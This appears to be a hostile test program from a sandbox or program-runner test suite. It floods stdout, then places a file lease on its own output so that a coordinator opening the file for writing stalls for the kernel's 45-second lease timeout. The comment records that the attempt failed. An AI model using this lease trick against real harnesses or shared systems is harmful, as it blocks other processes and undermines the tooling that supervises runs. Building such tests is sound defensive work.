/* Puts a lease on its own output, so that whoever opens the file for writing is held up for as
 * long as the kernel's patience lasts (45 s). Afterwards: the run took no such time. Its output is
 * long enough that the coordinator gives parts of the file back. */
#include "attack.h"

int main(void) {
    static char block[1 << 20];
    memset(block, 'x', sizeof block);
    block[sizeof block - 1] = '\n';
    for (int i = 0; i < 6; i++)
        if (write(1, block, sizeof block) < 0) return 2;
    int again = open("/dev/stdout", O_RDONLY);
    signal(SIGIO, SIG_IGN);
    close(1);
    if (again >= 0) fcntl(again, 1024 /* F_SETLEASE */, F_RDLCK);
    usleep(300000);
    return 0;
}
